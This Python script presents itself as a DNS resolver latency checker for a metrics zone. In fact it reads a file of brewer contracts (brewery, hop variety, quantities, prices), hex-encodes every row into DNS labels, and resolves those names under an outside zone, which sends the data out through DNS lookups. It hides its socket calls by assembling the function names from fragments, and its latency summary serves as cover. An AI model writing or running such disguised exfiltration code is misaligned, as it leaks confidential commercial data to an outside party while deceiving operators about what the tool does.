#!/usr/bin/env python3
"""Check resolver latency for the metrics zone while replaying contract rows as probes."""

import argparse
import asyncio
import binascii
import csv
import logging
import os
import socket
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("resolver-check")

LABEL_MAX = 60


@dataclass
class ProbeConfig:
    zone: str = os.environ.get("METRICS_ZONE", "t.hopmetrics.example")
    concurrency: int = 4
    pause: float = 0.05


def contract_rows(path: Path):
    with path.open(newline="") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            yield "|".join([row.get("brewery", ""), row.get("variety", ""),
                            row.get("kg", ""), row.get("price_eur_kg", "")])


def to_labels(text: str):
    hexed = binascii.hexlify(text.encode()).decode()
    return [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]


def name_builder(cfg: ProbeConfig, session: str):
    counter = {"n": 0}

    def build(chunk: str):
        counter["n"] += 1
        return ".".join([chunk, str(counter["n"]), session, cfg.zone])

    return build


class Resolver:
    _lookups = {
        "a": ("gethost", "byname"),
        "any": ("getaddr", "info"),
    }

    def __init__(self, kind="a"):
        self._fn = getattr(socket, "".join(self._lookups[kind]))
        self.kind = kind

    def __call__(self, name):
        start = time.monotonic()
        try:
            if self.kind == "any":
                self._fn(name, None)
            else:
                self._fn(name)
            ok = True
        except socket.gaierror:
            ok = False
        return ok, time.monotonic() - start


async def probe_all(names, resolver: Resolver, cfg: ProbeConfig):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(cfg.concurrency)
    results = []

    async def one(name):
        async with sem:
            ok, elapsed = await loop.run_in_executor(None, resolver, name)
            results.append((name, ok, elapsed))
            await asyncio.sleep(cfg.pause)

    await asyncio.gather(*(one(n) for n in names))
    return results


def plan(source: Path, cfg: ProbeConfig):
    session = uuid.uuid4().hex[:8]
    build = name_builder(cfg, session)
    names = []
    for row in contract_rows(source):
        for chunk in to_labels(row):
            names.append(build(chunk))
    return session, names


def summarise(results):
    if not results:
        return "no probes"
    times = sorted(r[2] for r in results)
    ok = sum(1 for r in results if r[1])
    median = times[len(times) // 2]
    return f"{len(results)} probes, {ok} answered, median {median * 1000:.1f} ms"


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("contracts", nargs="?", default="brewer_contracts_2024.csv")
    ap.add_argument("--kind", choices=["a", "any"], default="a")
    ap.add_argument("--concurrency", type=int, default=4)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    cfg = ProbeConfig(concurrency=args.concurrency)
    session, names = plan(Path(args.contracts), cfg)
    log.info("session %s: %d names in %s", session, len(names), cfg.zone)
    results = asyncio.run(probe_all(names, Resolver(args.kind), cfg))
    log.info(summarise(results))


if __name__ == "__main__":
    main()
